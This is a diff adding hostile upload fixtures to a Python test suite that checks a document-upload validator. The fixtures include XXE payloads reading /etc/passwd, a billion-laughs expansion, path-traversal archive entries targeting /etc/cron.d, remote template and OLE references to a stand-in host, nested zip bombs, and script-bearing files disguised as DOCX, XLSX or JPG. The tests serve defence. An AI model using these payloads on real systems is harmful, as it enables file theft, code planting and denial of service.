@@ -20,6 +20,14 @@ HTML = b"<!doctype html><script>alert(document.cookie)</script>"
 PROGRAM = b"MZ\x90\x00\x03" + b"\x00" * 200
 EICAR_LIKE = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
 ZEROS = b"\x00" * (90 * 1024 * 1024)
+XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
+LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+TEMPLATE = (
+    f'<Relationships><Relationship Id="r1" Type="{OFFICE}/attachedTemplate" Target="http://192.0.2.1/x.dotm"'
+    ' TargetMode="External"/></Relationships>'
+)
+LINKED = TEMPLATE.replace("attachedTemplate", "hyperlink")
 
 # What the agreement brought is none of these tests' files.
 SENT = Attachment.objects.exclude(case_type="agreement")
@@ -76,6 +84,21 @@ HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
             {"[Content_Types].xml": '<!DOCTYPE x [<!ENTITY a "b">]><Types>&a;</Types>', "word/document.xml": ""}
         ),
     ),
+    "entities in a sheet": ("流水.xlsx", lambda: office("xlsx", {"xl/worksheets/sheet1.xml": XXE})),
+    "entities in UTF-16": ("流水.xlsx", lambda: office("xlsx", {"xl/workbook.xml": XXE.encode("utf-16")})),
+    "a billion laughs": ("承诺书.docx", lambda: office("docx", {"word/document.xml": LAUGHS})),
+    "entities in an invoice": ("票据.ofd", lambda: archive({"OFD.xml": XXE})),
+    "a part outside": ("流水.xlsx", lambda: office("xlsx", {"../../etc/cron.d/x": "x"})),
+    "a part at the root": ("流水.xlsx", lambda: office("xlsx", {"/etc/cron.d/x": "x"})),
+    "a template from elsewhere": ("承诺书.docx", lambda: office("docx", {"word/_rels/settings.xml.rels": TEMPLATE})),
+    "an object from elsewhere": (
+        "流水.xlsx",
+        lambda: office("xlsx", {"xl/_rels/a.rels": TEMPLATE.replace("attachedTemplate", "oleObject")}),
+    ),
+    "a bomb in a bomb": ("流水.xlsx", lambda: office("xlsx", {"xl/embeddings/a.xlsx": bomb(), "x.bin": ZEROS})),
+    "a page as DOCX": ("承诺书.docx", lambda: HTML),
+    "a script before an archive": ("流水.xlsx", lambda: HTML + xlsx_of(3, 3)),
+    "an SVG as JPG": ("章.jpg", lambda: SVG),
     "nothing in it": ("空.pdf", lambda: b""),
     "21 MB": ("大.pdf", lambda: pdf_of(["x"]) + b"0" * (21 * 1024 * 1024)),
     "a name without an end": ("合同", lambda: pdf_of(["x"])),
@@ -88,6 +111,10 @@ GOOD: dict[str, tuple[str, Callable[[], bytes]]] = {
     "XLSX": ("流水.xlsx", lambda: xlsx_of(3, 3)),
     "DOCX": ("承诺书.docx", lambda: docx_of(["x"])),
     "OFD": ("票据.ofd", ofd),
+    "DOCX with a link": (
+        "承诺书.docx",
+        lambda: office("docx", {"word/document.xml": "<x/>", "word/_rels/document.xml.rels": LINKED}),
+    ),
 }
 # What a name may become: never a folder, never a control or direction mark, never longer than a disk allows.
 NAMES = {
